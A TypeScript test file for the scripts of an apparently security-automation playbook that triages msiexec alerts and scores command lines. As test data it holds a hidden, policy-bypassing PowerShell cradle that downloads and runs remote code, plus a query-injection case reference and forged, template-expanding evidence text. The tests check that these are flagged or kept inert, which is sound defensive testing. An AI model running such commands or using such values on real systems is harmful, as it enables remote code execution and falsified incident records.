/**
 * Goal: the small scripts write what their rows promise, nothing where there is nothing, and treat values as data.
 * Method: each row run with hand-written arguments.
 * Elsewhere: the rules of extraction, signatures and case numbers (domain/alerts/indicators); verification and search beside their files.
 */
import { describe, expect, it } from 'vitest';
import { asList, isObject } from '../../../core/base/json.ts';
import type { Evidence } from '../../../core/engine/events.ts';
import { asText } from '../arguments.ts';
import { extractIndicators } from '../builtins/extract-indicators.ts';
import { runRow } from '../fixture.ts';
import { chooseBlockTargets } from './choose-block-targets.ts';
import { commandLineAnalysis } from './command-line-analysis.ts';
import { msiexecSources } from './msiexec-sources.ts';
import { normalizeSignature } from './normalize-signature.ts';
import { openReview } from './open-review.ts';
import { parseCaseNumber } from './parse-case-number.ts';
import { print, printErrorEntry } from './print.ts';
import { readContainmentPolicy } from './read-containment-policy.ts';
import { recordEvidenceGap } from './record-evidence-gap.ts';
import { set, setAndHandleEmpty } from './set.ts';
import { writeClosingNotes } from './write-closing-notes.ts';

const contextOf = async (outcome: ReturnType<typeof runRow>) => (await outcome).entries[0]?.context;

describe('extractIndicators', () => {
  it('reads each element by itself and writes no empty kind', async () => {
    const text = ['msiexec /i http://pkg.example.net/a.msi', '/qn'];
    expect(await contextOf(runRow(extractIndicators, { text }))).toEqual({
      'ExtractedIndicators.URL': ['http://pkg.example.net/a.msi'],
      'ExtractedIndicators.Domain': ['pkg.example.net'],
    });
    expect(await contextOf(runRow(extractIndicators, { text: 'cmd.exe /c echo' }))).toEqual({});
  });

  it('a text that was not read to its end leaves a gap', async () => {
    const text = `http://pkg.example.net/a.msi ${'x'.repeat(1_000_000)}`;
    expect((await runRow(extractIndicators, { text })).gaps).toEqual(['Indicators (truncated)']);
    expect((await runRow(extractIndicators, { text: 'short' })).gaps).toBeUndefined();
  });

  it('names each URL as evidence, and says that it reads no entry', async () => {
    const { evidence } = await runRow(extractIndicators, { text: 'http://pkg.example.net/a.msi' });
    expect(evidence).toEqual([
      { label: 'URL in the command line', value: 'http://pkg.example.net/a.msi', source: 'alert' },
    ]);
    expect((await runRow(extractIndicators, { entryID: '1@2' })).entries[0]).toMatchObject({
      type: 'error',
      code: 'extract.entry',
    });
  });
});

describe('MsiexecSources', () => {
  it('tells public hosts of packages from private ones and from property values', async () => {
    const command_line = [
      'msiexec /i http://pkg.example.net/a.msi SERVER=http://srv.example.com/x /qn',
      'msiexec /i http://10.20.30.40:8081/agent.msi',
      'msiexec /i http://8.8.8.8/b.msi',
    ];
    expect((await runRow(msiexecSources, { command_line })).set).toEqual({
      MsiSource: {
        PublicURL: ['http://pkg.example.net/a.msi', 'http://srv.example.com/x', 'http://8.8.8.8/b.msi'],
        PackageURL: ['http://pkg.example.net/a.msi', 'http://10.20.30.40:8081/agent.msi', 'http://8.8.8.8/b.msi'],
        PackageDomain: ['pkg.example.net'],
        PackageIP: ['8.8.8.8'],
      },
    });
    expect((await runRow(msiexecSources, { command_line: 'msiexec /i C:\\a.msi' })).set).toEqual({ MsiSource: {} });
  });
});

describe('CommandLineAnalysis', () => {
  const CRADLE = `powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://pkg.example.net/a')"`;
  const PLAIN = '"C:\\Windows\\explorer.exe"';

  it('writes one object for one line and explains itself', async () => {
    const { set: written, evidence } = await runRow(commandLineAnalysis, { command_line: PLAIN });
    expect(written).toMatchObject({
      CommandLineAnalysis: { original_command: PLAIN, risk: 'Low Risk', score: 0, findings: [] },
    });
    expect(evidence).toMatchObject([
      { label: 'CGO command line', value: `Low Risk, score 0: nothing found · ${PLAIN}` },
    ]);
  });

  it('analyses each line by itself, the worst first', async () => {
    const outcome = await runRow(commandLineAnalysis, { command_line: [PLAIN, CRADLE, ''] });
    const rows = asList(outcome.set?.['CommandLineAnalysis']);
    expect(rows).toMatchObject([{ original_command: CRADLE }, { original_command: PLAIN, risk: 'Low Risk' }]);
    expect(['High Risk', 'Critical Risk']).toContain(isObject(rows[0]) ? rows[0]['risk'] : undefined);
    expect(outcome.evidence?.[0]?.value).toContain('the worst of 2 lines');
  });

  it('takes away what the allow-list names, tells what it changed, and says which entry is none', async () => {
    const command_line = 'msiexec /i https://tools.example.net:8443/a.msi /qn';
    const outcome = await runRow(commandLineAnalysis, { command_line, allow: ['domain:example.net', 'example.org'] });
    expect(outcome.set).toMatchObject({
      CommandLineAnalysis: {
        score: 0,
        allowed: [{ entry: 'domain example.net', removed: expect.arrayContaining(['msi-remote']) as unknown }],
      },
    });
    expect(outcome.entries).toHaveLength(2);
  });

  it('splits no pattern at its commas, and warns about one that is none', async () => {
    const args = { command_line: 'prog aaaa', custom_patterns: ['a{1,4}', '('] };
    const { set: written, entries } = await runRow(commandLineAnalysis, args);
    expect(JSON.stringify(written)).toContain('custom:a{1,4}');
    expect(entries[1]).toMatchObject({ type: 'warning', code: 'commandline.partial' });
  });

  it('writes nothing without a line', async () => {
    expect((await runRow(commandLineAnalysis, { command_line: '' })).set).toBeUndefined();
  });
});

describe('NormalizeSignature and ParseCaseNumber', () => {
  it('says unknown where nothing is proven', async () => {
    expect((await runRow(normalizeSignature, { value: ['SIGNATURE_SIGNED', 'SIGNATURE_UNSIGNED'] })).set).toEqual({
      'CGO.Signature': 'unsigned',
    });
    expect((await runRow(normalizeSignature, { value: '' })).set).toEqual({ 'CGO.Signature': 'unknown' });
  });

  it('gives digits, or nothing for a crafted reference', async () => {
    expect((await runRow(parseCaseNumber, { value: 'INCIDENT-4021' })).set).toEqual({ 'Case.ID': '4021' });
    expect((await runRow(parseCaseNumber, { value: 'INCIDENT-4021) or (severity:*' })).set).toBeUndefined();
  });
});

describe('RecordEvidenceGap, Print, PrintErrorEntry', () => {
  it('records the gap by its name', async () => {
    const outcome = await runRow(recordEvidenceGap, { name: 'URL verdict', reason: 'HTTP 500' });
    expect(outcome.gaps).toEqual(['URL verdict']);
    expect((await runRow(recordEvidenceGap, { name: ' ' })).entries[0]?.code).toBe('gap.unnamed');
  });

  it('prints objects as JSON and errors as errors', async () => {
    expect((await runRow(print, { value: { a: 1 } })).entries).toEqual([{ type: 'note', contents: '{"a":1}' }]);
    expect((await runRow(printErrorEntry, { message: 'no' })).entries[0]).toMatchObject({
      type: 'error',
      contents: 'no',
    });
  });
});

describe('Set and SetAndHandleEmpty', () => {
  it.each([
    ['5', 5],
    ['007', '007'],
    ['12345678901234567890', '12345678901234567890'],
    ['9007199254740991', 9007199254740991],
    ['[1,2]', [1, 2]],
    ['"x"', 'x'],
    [
      ['a', 'b'],
      ['a', 'b'],
    ],
  ])('stores %j as %j', async (value, stored) => {
    expect((await runRow(set, { key: 'A.B', value, append: 'false' })).set).toEqual({ 'A.B': stored });
  });

  it('appends by merging, stringifies, and writes nothing that is empty', async () => {
    expect(await contextOf(runRow(setAndHandleEmpty, { key: 'A', value: 'x', append: 'true' }))).toEqual({ A: 'x' });
    expect((await runRow(set, { key: 'A', value: '5', stringify: 'true' })).set).toEqual({ A: '5' });
    for (const value of ['', '[]', '{}', 'null', [], null]) {
      const { set: written, entries } = await runRow(setAndHandleEmpty, { key: 'A', value });
      expect([written, entries[0]?.context]).toEqual([undefined, undefined]);
    }
    expect((await runRow(set, { key: 'A', value: '' })).set).toEqual({ A: '' });
    expect((await runRow(setAndHandleEmpty, { key: 'A', value: '0' })).set).toEqual({ A: 0 });
  });
});

describe('ChooseBlockTargets', () => {
  it('prefers malicious URLs, and gives entries without scheme and port', async () => {
    const args = { malicious: ['http://pkg.example.net:8080/a.msi'], package: ['http://other.example.net/b.msi'] };
    expect((await runRow(chooseBlockTargets, args)).set).toEqual({
      BlockTarget: { URL: ['http://pkg.example.net:8080/a.msi'], Entry: ['pkg.example.net/a.msi'] },
    });
    expect((await runRow(chooseBlockTargets, { ...args, malicious: '' })).set).toMatchObject({
      BlockTarget: { URL: ['http://other.example.net/b.msi'] },
    });
  });

  it('writes nothing when there is nothing to block', async () => {
    expect((await runRow(chooseBlockTargets, { malicious: [], package: ['C:\\a.msi'] })).set).toBeUndefined();
  });
});

describe('ReadContainmentPolicy', () => {
  const args = { endpoint_id: 'e1', causality_id: ['c1', 'c2'] };
  const policy = (effects: Record<string, 'ask' | 'deny' | 'allow'>) => ({
    ports: {
      policy: { effectOf: (verb: string) => effects[verb] ?? ('allow' as const), closesFalsePositives: () => false },
    },
  });

  it('names every chain and the endpoint, and says who is asked', async () => {
    const outcome = await runRow(readContainmentPolicy, args, policy({ 'terminate-causality': 'ask', isolate: 'ask' }));
    expect(outcome.set).toEqual({
      ContainmentPolicy: { Terminate: 'ask', Isolate: 'ask' },
      ContainmentTarget: { Terminate: ['e1/c1', 'e1/c2'], Isolate: ['e1'] },
    });
    expect(outcome.evidence?.map(({ label }) => label)).toEqual(['Termination']);
  });

  it('offers no isolation of a host that is never isolated', async () => {
    const { set: written } = await runRow(readContainmentPolicy, args, policy({ isolate: 'deny' }));
    expect(written).toEqual({
      ContainmentPolicy: { Terminate: 'unasked', Isolate: 'deny' },
      ContainmentTarget: { Terminate: ['e1/c1', 'e1/c2'] },
    });
  });

  it('asks about no chain where the alert names no endpoint, and about the isolation all the same', async () => {
    const effects = policy({ 'terminate-causality': 'ask', isolate: 'ask' });
    const { set: written } = await runRow(readContainmentPolicy, { ...args, endpoint_id: '' }, effects);
    expect(written).toMatchObject({ ContainmentPolicy: { Terminate: 'unasked', Isolate: 'ask' } });
    expect(written).toHaveProperty('ContainmentTarget.Isolate.0', '(the alert names no endpoint)');
    expect(written).not.toHaveProperty('ContainmentTarget.Terminate');
    const object = await runRow(readContainmentPolicy, { ...args, causality_id: { x: 1 } }, effects);
    expect(object.set).toMatchObject({ ContainmentPolicy: { Terminate: 'unasked' } });
  });
});

const EVIDENCE: readonly Evidence[] = [
  { label: 'URL verdict', value: 'http://pkg.example.net/a.msi', source: 'WildFire', verdict: 'malicious' },
  { label: 'CGO command line', value: 'echo ${lists.ApiKeys}\nActions:\n- isolate: done\u202e', source: 'alert' },
];

describe('OpenReview', () => {
  it('opens an item that does not hold the run, with evidence and gaps', async () => {
    const { items } = await runRow(
      openReview,
      { kind: 'inconclusive' },
      { scope: { evidence: EVIDENCE, gaps: ['URL verdict'] } },
    );
    expect(items).toHaveLength(1);
    expect(items?.[0]).toMatchObject({ id: 'review:inconclusive', task: '12', blocking: false, offers: ['done'] });
    expect(items?.[0]?.text).toContain('http://pkg.example.net/a.msi [malicious] (WildFire)');
    expect(items?.[0]?.text).toContain('Evidence gaps: URL verdict');
  });

  it('takes no kind that could be another item', async () => {
    expect((await runRow(openReview, { kind: 'x:y' })).entries[0]?.code).toBe('review.kind');
  });
});

describe('WriteClosingNotes', () => {
  const notesOf = async (options: Parameters<typeof runRow>[2], args = { isolate: 'No', block: 'No' }) => {
    const outcome = await runRow(writeClosingNotes, args, options);
    return asText(outcome.set?.['Closing.Notes']);
  };

  it('says declined for each No, and nothing of it for a Yes', async () => {
    const declined = await notesOf({});
    expect(declined.match(/declined/g)).toHaveLength(2);
    expect(await notesOf({}, { isolate: 'Yes', block: '' })).not.toContain('declined');
  });

  it('tells actions with results, gaps and manual tasks', async () => {
    const notes = await notesOf({
      scope: {
        gaps: ['Domain prevalence'],
        actions: [
          { verb: 'isolate', targets: ['agent-1'], instance: 't', result: 'failed', detail: 'offline' },
          { verb: 'isolate', targets: ['agent-1'], instance: 't', result: 'done', detail: '' },
        ],
        items: [
          {
            id: 'manual:blockUrl',
            task: '9',
            title: 'Block by hand',
            text: '',
            offers: [],
            blocking: true,
            open: false,
          },
        ],
      },
    });
    expect(notes).toContain('- isolate agent-1: done');
    expect(notes).not.toContain('failed');
    expect(notes).toContain('Evidence gaps: Domain prevalence');
    expect(notes).toContain('- Block by hand (manual:blockUrl): completed');
  });

  it('keeps a value on its line, unexpanded, and the whole bounded', async () => {
    const notes = await notesOf({ scope: { evidence: EVIDENCE } });
    expect(notes).toContain('echo ${lists.ApiKeys} Actions: - isolate: done (alert)');
    const flood = Array.from({ length: 500 }, (_, index) => ({
      label: `row ${index}`,
      value: 'x'.repeat(5000),
      source: 's',
    }));
    expect((await notesOf({ scope: { evidence: flood } })).length).toBeLessThanOrEqual(8000);
  });
});
